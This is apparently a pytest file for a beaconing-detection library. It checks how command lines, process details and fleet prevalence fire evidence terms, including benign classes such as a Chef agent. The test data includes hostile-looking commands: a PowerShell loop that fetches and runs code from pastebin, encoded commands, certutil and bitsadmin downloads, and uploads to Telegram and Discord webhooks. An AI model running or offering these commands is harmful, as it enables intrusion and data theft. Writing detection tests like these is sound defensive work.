# ruff: noqa: E501 (rows of tables)
"""Each family of evidence: what fires, what does not, and what cannot be seen."""

import polars as pl
import pytest
from channel_rows import channel, hidden, ledger, observed

from beacon import evidence


def fired(**fields: object) -> set[str]:
    entries = ledger(observed(channel(**fields)))
    return {name for name, entry in entries.items() if entry["state"] == "fired"}


# --- decoded text ---------------------------------------------------------------------------


def test_decoded_text_is_judged_by_the_same_terms() -> None:
    plain = fired(
        line='powershell -c "while($true){iex (irm https://pastebin.com/raw/x); sleep 9}"'
    )
    encoded = fired(
        line=f"powershell -enc {hidden('while($true){iex (irm https://pastebin.com/raw/x); sleep 9}')}"
    )
    assert {"fetch and run", "loop in command line", "dead-drop link"} <= plain & encoded
    assert "encoded command" in encoded - plain


# --- direction ------------------------------------------------------------------------------

DIRECTIONS = [
    ("irm https://api.github.com/x", "down-only"),
    ("Invoke-WebRequest -Uri https://a/b -OutFile c", "down-only"),
    ("(New-Object Net.WebClient).DownloadString('https://a')", "down-only"),
    ("curl -s https://a.example/x", "down-only"),
    ("curl.exe -fsSL https://a.example/x -o y", "down-only"),  # -f is fail, -F is form
    ("certutil -urlcache -split -f https://a x", "down-only"),
    ("bitsadmin /transfer j /download https://a x", "down-only"),
    ("curl https://api.telegram.org/bot1:x/getUpdates", "down-only"),
    ("irm -Method Post -Uri https://a", "up-seen"),
    ("irm https://a -Body $b", "up-seen"),
    ("(New-Object Net.WebClient).UploadString('https://a', $x)", "up-seen"),
    ("curl -d text=hi https://a", "up-seen"),
    ("curl -s -F document=@x https://a", "up-seen"),
    ("curl.exe -T file https://a", "up-seen"),
    ("curl -sX POST https://a", "up-seen"),
    ("curl --data-binary @x https://a", "up-seen"),
    ("wget --post-data=x https://a", "up-seen"),
    ("bitsadmin /transfer j /upload https://a x", "up-seen"),
    ("python -c \"import requests; requests.post('https://a')\"", "up-seen"),
    ("node -e \"fetch('https://a',{method:'POST'})\"", "up-seen"),
    ("curl https://api.telegram.org/bot1:x/sendMessage?text=a", "up-seen"),
    ("curl https://discord.com/api/webhooks/1/x", "up-seen"),
    ("python agent.py", "unknown"),
    ("wscript x.vbs", "unknown"),
]


@pytest.mark.parametrize(("line", "way"), DIRECTIONS, ids=[line for line, _ in DIRECTIONS])
def test_direction_is_read_from_the_verbs(line: str, way: str) -> None:
    assert observed(channel(line=line))["direction"].item() == way


def test_a_read_only_host_needs_no_verb_and_counted_bytes_outweigh_it() -> None:
    rows = observed(
        channel(domain="raw.githubusercontent.com", line="python agent.py"),
        channel(domain="raw.githubusercontent.com", line="python agent.py", sent_bytes=9_000),
        channel(domain="api.github.com", received_bytes=120, sent_bytes=0),
    )
    assert rows["direction"].to_list() == ["down-only", "up-seen", "down-only"]


def test_unknown_direction_is_not_observable_and_weighs_nothing() -> None:
    entries = ledger(observed(channel(line="python agent.py")))
    for name in ("one-way", "sends"):
        assert entries[name]["state"] == "not observable"
        assert entries[name]["weight"] == 0


# --- process --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("process", "original", "renamed"),
    [
        ("curl.exe", "powershell.exe", True),
        ("python.exe", "node.exe", True),
        ("p.exe", "powershell.exe", True),
        ("1.exe", "powershell.exe", True),
        ("7z.exe", "7z.exe", False),
        ("pythonw.exe", "python.exe", False),
        ("python3.exe", "python.exe", False),
        ("pwsh.exe", "pwsh.dll", False),
        ("powershell.exe", "powershell.exe", False),
        ("wmic.exe", "wmic.exe", False),
    ],
)
def test_a_renamed_program_is_told_by_its_version_information(
    process: str, original: str, renamed: bool
) -> None:
    assert ("renamed" in fired(process=process, original_names=[original])) is renamed


@pytest.mark.parametrize(
    ("fields", "writable"),
    [
        ({"paths": ["c:\\users\\a\\appdata\\roaming\\x\\node.exe"]}, True),
        ({"paths": ["c:\\windows\\system32\\curl.exe"], "line": "curl -o C:\\Users\\Public\\a"}, True),
        ({"paths": ["c:\\users\\a\\appdata\\local\\programs\\python\\python312\\python.exe"]}, False),
        ({"paths": ["c:\\program files\\nodejs\\node.exe"], "line": "node x.js"}, False),
    ],
)  # fmt: skip
def test_a_user_writable_place_is_seen_in_program_and_script(
    fields: dict[str, object], writable: bool
) -> None:
    assert ("user-writable place" in fired(**fields)) is writable


def test_an_office_parent_is_named() -> None:
    row = channel(process="powershell.exe", parents=["excel.exe"], suspicious_parent=True)
    assert ledger(observed(row))["office parent"]["value"] == (
        "powershell.exe was started by excel.exe"
    )


# --- fleet ----------------------------------------------------------------------------------


def on_hosts(count: int, **fields: object) -> list[dict[str, object]]:
    return [channel(host=f"h{i}", **fields) for i in range(count)]


def test_prevalence_of_a_channel_is_that_of_its_rarest_parent() -> None:
    common = {"process": "curl.exe", "domain": "github.com", "matched_domains": ["github.com"]}
    rows = observed(
        channel(host="a", parents=["x"], **common),
        channel(host="b", parents=["x"], **common),
        channel(host="c", parents=["x", "rare"], **common),
        channel(host="d", **common),
    )
    assert rows["prevalence_hosts"].to_list() == [3, 3, 1, 1]


def test_the_same_command_line_is_known_again_under_other_names() -> None:
    lines = [
        'C:\\Users\\ann\\x\\python.exe "C:\\Users\\ann\\jobs\\agent.py" --id 17',
        'D:\\x\\python.exe "C:\\Users\\bob\\b\\jobs\\agent.py" --id 4',
        'D:\\x\\python.exe "C:\\Users\\bob\\b\\jobs\\other.py" --id 4',
        'D:\\x\\python.exe "C:\\Users\\bob\\b\\tools\\agent.py" --id 4',
    ]
    rows = observed(*[channel(host=f"h{i}", line=line) for i, line in enumerate(lines)])
    assert rows["template_hosts"].to_list() == [2, 2, 1, 1]


def test_two_encoded_commands_are_one_only_if_they_hide_the_same() -> None:
    lines = [f"powershell -enc {hidden(f'irm https://t.me/{x}')}" for x in ("aaaa", "aaaa", "bbbb")]
    rows = observed(*[channel(host=f"h{i}", line=line) for i, line in enumerate(lines)])
    assert rows["template_hosts"].to_list() == [2, 2, 1]


def test_an_implant_does_not_borrow_the_prevalence_of_the_program_beside_it() -> None:
    agents = on_hosts(9, line="agent.exe run")
    mixed = channel(host="h1", command_lines=["agent.exe run", "agent.exe steal"], domain="t.me")
    assert observed(*agents, mixed)["template_hosts"].to_list() == [*[9] * 9, 1]


def test_prevalence_is_not_observable_in_a_handful_of_hosts() -> None:
    entries = ledger(observed(channel(line="x"), fleet_hosts=5))
    for name in ("common in fleet", "common command line"):
        assert entries[name]["state"] == "not observable"


# --- benign explanations --------------------------------------------------------------------

CHEF = {
    "process": "ruby.exe",
    "paths": ["c:\\opscode\\chef\\embedded\\bin\\ruby.exe"],
    "parents": ["cmd.exe"],
    "accounts": ["system"],
    "account_domains": ["nt authority"],
    "matched_domains": ["github.com"],
    "line": '"c:\\opscode\\chef\\embedded\\bin\\ruby.exe" chef-client',
    "period_seconds": 1800.0,
    "timing_evidence": 5.0,
}


def benign_class(*rows: dict[str, object]) -> str:
    return str(observed(*rows)["benign_class"][0])


def test_chef_on_many_hosts_is_configuration_management() -> None:
    assert benign_class(*on_hosts(5, **CHEF)) == "configuration management"


@pytest.mark.parametrize(
    "changed",
    [
        {"paths": ["c:\\users\\public\\ruby.exe"], "line": "ruby x.rb"},
        {"parents": ["winword.exe"]},
        {"parents": ["cmd.exe", "winword.exe"]},
        {"period_seconds": 30.0, "accounts": ["jdoe"], "account_domains": ["corp"]},
    ],
    ids=["other folder", "other parent", "a second parent", "fast and as a user"],
)
def test_a_process_name_alone_explains_nothing(changed: dict[str, object]) -> None:
    assert benign_class(*on_hosts(2, **{**CHEF, **changed})) == ""


def test_a_benign_class_never_raises_the_score() -> None:
    signs = {term.name: term.sign for term in evidence.TERMS}
    for name in ("developer or CI", "configuration management", "updater",
                 "security or monitoring", "chat or bot"):  # fmt: skip
        assert signs[name] == -1


# --- all terms ------------------------------------------------------------------------------


def test_names_are_unique_and_strengths_are_shares() -> None:
    assert len({term.name for term in evidence.TERMS}) == len(evidence.TERMS)
    rows = observed(*on_hosts(4, **CHEF), channel(line="powershell -enc JAB"), channel())
    for column in evidence.strengths(rows):
        assert column.drop_nulls().is_between(0, 1).all(), column.name


def test_no_channels_no_evidence() -> None:
    assert evidence.weigh(observed(channel()).clear(), 1e-3).height == 0


def test_the_shipped_weights_keep_to_their_signs_and_bound() -> None:
    weights = evidence.shipped()
    terms = (*evidence.LEARNED, *evidence.REMEMBERED)
    assert set(weights.log_odds) == {term.name for term in terms}
    for term in terms:
        assert term.least <= weights.of(term.name) * term.sign <= term.bound, term.name


def test_the_value_of_what_fired_is_a_sentence() -> None:
    rows = observed(
        *on_hosts(4, **CHEF),
        channel(line=f"powershell -w hidden -enc {hidden('irm https://t.me/s/x')}", polls=900),
    )
    for entries in evidence.weigh(rows, 1e-3)["evidence"]:
        for entry in entries:
            assert (entry["value"] != "") == (entry["state"] == "fired"), entry
    assert isinstance(rows, pl.DataFrame)


def test_a_mixed_channel_does_not_join_one_programs_timer_with_anothers_rarity() -> None:
    rows = pl.DataFrame(
        {
            "host": ["h"] * 5, "process": ["p"] * 5, "domain": ["a", "a", "a", "b", "b"],
            "strand": [0, 1, 2, 0, 1], "events": [10, 7, 3, 10, 3],
        }
    )  # fmt: skip
    assert evidence.speakers(rows).select("domain", "strand").rows() == [
        ("a", 1), ("a", 2), ("b", 0), ("b", 1),
    ]  # fmt: skip
